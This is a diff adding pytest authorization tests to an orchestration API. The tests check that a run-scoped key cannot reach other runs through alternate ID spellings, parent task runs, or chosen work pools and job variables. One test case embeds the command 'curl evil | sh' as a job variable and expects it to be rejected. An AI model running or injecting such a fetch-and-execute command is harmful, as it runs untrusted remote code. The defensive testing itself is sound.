@@ -5,7 +5,9 @@ from __future__ import annotations
 import re
 from contextlib import asynccontextmanager
 from dataclasses import replace
+from datetime import UTC, datetime
 from typing import TYPE_CHECKING, Any
+from urllib.parse import quote
 
 import pytest
 from aiohttp import WSServerHandshakeError
@@ -17,11 +19,12 @@ from managedd.api.app import Api
 from managedd.api.auth import Listener
 from managedd.api.surface import all_operations
 from managedd.model.access import LEVELS, Level, OfRuns, Role
+from tests.api.deployed import pool_of
 from tests.api.test_flow_runs import new_run
 from tests.support.api_keys import bearer, make_key, make_run_key
 
 if TYPE_CHECKING:
-    from collections.abc import AsyncIterator
+    from collections.abc import AsyncIterator, Callable
 
     from managedd.api.operation import Operation
     from tests.api.conftest import ApiClient
@@ -147,6 +150,97 @@ async def test_what_a_body_names_must_be_the_runs_own(api: ApiClient) -> None:
                 assert status in {200, 201}, (path, value, said)
             status, said = await entered.post(path, {**body, name: foreign}, headers=bearer(key))
             assert (status, "is not" in said["detail"]) == (403, True), path
+
+
+@pytest.mark.parametrize(
+    "spelled", [str.upper, lambda text: text.replace("-", ""), "{{{}}}".format, "urn:uuid:{}".format]
+)
+async def test_another_spelling_is_the_same_id(api: ApiClient, spelled: Callable[[str], str]) -> None:
+    mine, theirs = (await new_run(api))["id"], (await new_run(api))["id"]
+    tasks = {mine: await a_task_run(api, mine), theirs: await a_task_run(api, theirs)}
+    key = await make_run_key(api.services.db, mine)
+    async with runs(api) as entered:
+        for run, expected in ((theirs, 403), (mine, 204)):
+            for path in (f"/flow_runs/{quote(spelled(run))}", f"/task_runs/{quote(spelled(tasks[run]))}"):
+                status, _ = await entered.patch(path, {"name": "changed"}, headers=bearer(key))
+                assert status == expected, path
+
+
+async def test_a_task_run_of_nobody_is_no_runs_own(api: ApiClient) -> None:
+    key = await make_run_key(api.services.db, (await new_run(api))["id"])
+    _, task = await api.post("/task_runs/", {"task_key": "t", "dynamic_key": "1"})
+    async with runs(api) as entered:
+        assert (await entered.patch(f"/task_runs/{task['id']}", {"name": "x"}, headers=bearer(key)))[0] == 403
+        assert (await entered.patch(f"/task_runs/{ids.new_id()}", {"name": "x"}, headers=bearer(key)))[0] == 404
+
+
+async def test_nobody_takes_over_runs_by_the_task_run_above_them(api: ApiClient) -> None:
+    mine = (await new_run(api))["id"]
+    key = await make_run_key(api.services.db, mine)
+    _, nobodys = await api.post("/task_runs/", {"task_key": "t", "dynamic_key": "1"})
+    above = [nobodys["id"], ids.new_id(), ids.new_id()]
+    below = [(await new_run(api, parent_task_run_id=task))["id"] for task in above]
+    async with runs(api) as entered:
+        for task in above[:2]:
+            status, _ = await entered.post("/events", [running_event(task, mine)], headers=bearer(key))
+            assert status < 300
+        status, _ = await entered.post(
+            "/task_runs/",
+            {"id": above[2], "flow_run_id": mine, "task_key": "t", "dynamic_key": "2"},
+            headers=bearer(key),
+        )
+        assert status == 403
+        for run in below:
+            cancelling = {"state": {"type": "CANCELLING"}, "force": True}
+            assert (await entered.post(f"/flow_runs/{run}/set_state", cancelling, headers=bearer(key)))[0] == 403
+
+
+def running_event(task_run_id: str, flow_run_id: str) -> dict[str, Any]:
+    """What an engine tells of a task run that it says is the flow run's."""
+    return {
+        "id": ids.new_id(),
+        "occurred": datetime.now(UTC).isoformat(),
+        "event": "prefect.task-run.Running",
+        "resource": {
+            "prefect.resource.id": f"prefect.task-run.{task_run_id}",
+            "prefect.resource.name": "t",
+            "prefect.orchestration": "client",
+        },
+        "related": [{"prefect.resource.id": f"prefect.flow-run.{flow_run_id}", "prefect.resource.role": "flow-run"}],
+        "payload": {
+            "validated_state": {"type": "RUNNING", "name": "Running", "state_details": {}},
+            "task_run": {"task_key": "t", "dynamic_key": "7", "name": "t"},
+        },
+    }
+
+
+async def test_a_run_does_not_choose_where_another_one_runs(api: ApiClient) -> None:
+    mine = await new_run(api)
+    key = await make_run_key(api.services.db, mine["id"])
+    deployments = {}
+    for type_ in ("prefect:managed", "process"):
+        name = type_.rpartition(":")[2]
+        pool = await pool_of(api, name, type_)
+        body = {"name": name, "flow_id": mine["flow_id"], "work_pool_name": pool["name"]}
+        status, made = await api.post("/deployments/", body)
+        assert status == 201, made
+        deployments[type_] = made["id"]
+    asked: list[tuple[str, dict[str, Any], int]] = [
+        (deployments["process"], {}, 201),
+        (deployments["process"], {"job_variables": {"command": "curl evil | sh"}}, 403),
+        (deployments["process"], {"work_queue_name": "mine"}, 403),
+        (deployments["prefect:managed"], {"job_variables": {"env": {"A": "1"}}}, 201),
+        (deployments["prefect:managed"], {"work_queue_name": "mine"}, 403),
+    ]
+    async with runs(api) as entered:
+        for deployment, body, expected in asked:
+            status, said = await entered.post(f"/deployments/{deployment}/create_flow_run", body, headers=bearer(key))
+            assert status == expected, (body, said)
+        for choice in ({"work_pool_name": "process"}, {"work_queue_name": "q"}, {"job_variables": {"a": 1}}):
+            flow = {"flow_id": mine["flow_id"], **choice}
+            assert (await entered.post("/flow_runs/", flow, headers=bearer(key)))[0] == 403, choice
+        changed = {"job_variables": {"command": "x"}}
+        assert (await entered.patch(f"/flow_runs/{mine['id']}", changed, headers=bearer(key)))[0] == 403
 
 
 async def test_a_run_changes_its_own_artifacts_only(api: ApiClient) -> None:
